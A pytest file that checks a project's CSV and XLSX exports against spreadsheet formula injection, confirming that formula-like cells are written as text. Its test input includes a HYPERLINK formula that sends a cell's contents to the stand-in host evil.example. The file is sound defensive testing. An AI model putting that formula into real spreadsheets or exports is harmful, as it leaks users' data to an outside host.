"""Production hardening, as docs/security.md describes it: exports that are safe to open, limits
shared by every process, no session rows for anonymous visitors, production headers, backups."""

import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from chiso.core.safe_cells import csv_row, csv_value, csv_writer, formulas_as_text, is_formula_like, xlsx_row

SRC = Path(__file__).resolve().parents[2] / "src" / "chiso"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


# --- exports: OWASP's CSV injection rule --------------------------------------------------------

@pytest.mark.parametrize("text", [LEAK, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "+84 912 345 678"])
def test_a_text_a_spreadsheet_could_run_is_written_as_text_in_csv(text):
    assert is_formula_like(text)
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, "-3", "-2.5", "-1,5", "+2.5e3", "-12%", "", "Sở Tài chính", " =1", "a=1", None])
def test_numbers_and_ordinary_texts_are_left_alone(value):
    assert csv_value(value) == value


def test_the_csv_writer_escapes_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(["a", LEAK, -1])
    writer.writerows([["@x", "-2"], ["+x"]])
    assert buffer.getvalue().splitlines() == ['a,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Bấm vào đây"")",-1', "'@x,-2", "'+x"]
    assert csv_row(["=1", 2]) == ["'=1", 2]


def test_xlsx_cells_starting_with_equals_are_text_in_both_kinds_of_workbook(tmp_path):
    from openpyxl import Workbook

    streamed = Workbook(write_only=True)
    sheet = streamed.create_sheet("a")
    sheet.append(xlsx_row(sheet, [LEAK, "-x", -3, "=1+1"]))
    streamed.save(tmp_path / "streamed.xlsx")
    ordinary = Workbook()
    ordinary.active.append([LEAK, "-x", -3])
    ordinary.active.cell(row=2, column=1, value="=1+1")
    formulas_as_text(ordinary)
    ordinary.save(tmp_path / "ordinary.xlsx")
    for name in ("streamed.xlsx", "ordinary.xlsx"):
        cells = [c for row in load_workbook(tmp_path / name).worksheets[0].iter_rows() for c in row if c.value is not None]
        assert [(c.value, c.data_type) for c in cells][:3] == [(LEAK, "s"), ("-x", "s"), (-3, "n")]
        assert ("=1+1", "s") in [(c.value, c.data_type) for c in cells]


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(")
# Files a person never opens as an export: demo inputs, an uploaded form's trimmed copy for pyxform,
# and the engine's own command (no Django; its files are its user's own data).
NOT_EXPORTS = {"core/safe_cells.py", "core/tabular.py", "services_stats/demo.py", "surveys/demo_operation.py"}


def test_every_module_that_writes_csv_or_xlsx_goes_through_safe_cells():
    unguarded = []
    for path in SRC.rglob("*.py"):
        relative = path.relative_to(SRC).as_posix()
        if relative.startswith("engine/") or relative in NOT_EXPORTS:
            continue
        text = path.read_text(encoding="utf-8")
        if WRITERS.search(text) and "chiso.core.safe_cells" not in text:
            unguarded.append(relative)
    assert unguarded == []


def test_the_units_workbook_writes_a_name_starting_with_equals_as_text(make_unit):
    from chiso.units.exporting import units_workbook

    make_unit("S-A", name_vi=LEAK)
    make_unit("S-B", name_vi="-Sở thử")
    book = load_workbook(io.BytesIO(units_workbook()))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {LEAK, "-Sở thử"} <= {c.value for c in cells if c.data_type == "s"}


def test_framework_exports_write_formula_like_names_as_text():
    from chiso.frameworks.documents import document_to_imeta_csv, document_to_xlsx

    doc = {
        "framework": {"code": "T", "name_vi": "=1+1"},
        "version": {"label": "thử"},
        "steps": [],
        "iMeta": [
            {"iCode": "T", "Level": 2, "Type": "Aggregate", "name_vi": LEAK},
            {"iCode": "i1", "Level": 1, "Parent": "T", "Type": "Indicator", "Direction": -1, "Weight": 1, "name_vi": "@x"},
        ],
    }
    text = document_to_imeta_csv(doc).decode("utf-8")
    assert "'=HYPERLINK" in text and "'@x" in text and ",-1," in text  # the direction stays -1
    book = load_workbook(io.BytesIO(document_to_xlsx(doc)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert LEAK in {c.value for c in cells if c.data_type == "s"}


def test_the_xlsform_download_writes_a_label_starting_with_equals_as_text(blocks):
    from chiso.surveys.xlsform import xlsform_parse, xlsform_write

    examples = Path(__file__).resolve().parents[2] / "docs" / "examples"
    survey = xlsform_parse("ddci_communes.xlsx", (examples / "ddci_communes.xlsx").read_bytes()).survey
    first = next(child for child in survey["children"] if child.get("label"))
    label = first["label"]
    first["label"] = {lang: LEAK for lang in label} if isinstance(label, dict) else LEAK
    book = load_workbook(io.BytesIO(xlsform_write(survey)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert LEAK in {c.value for c in cells if c.data_type == "s"}
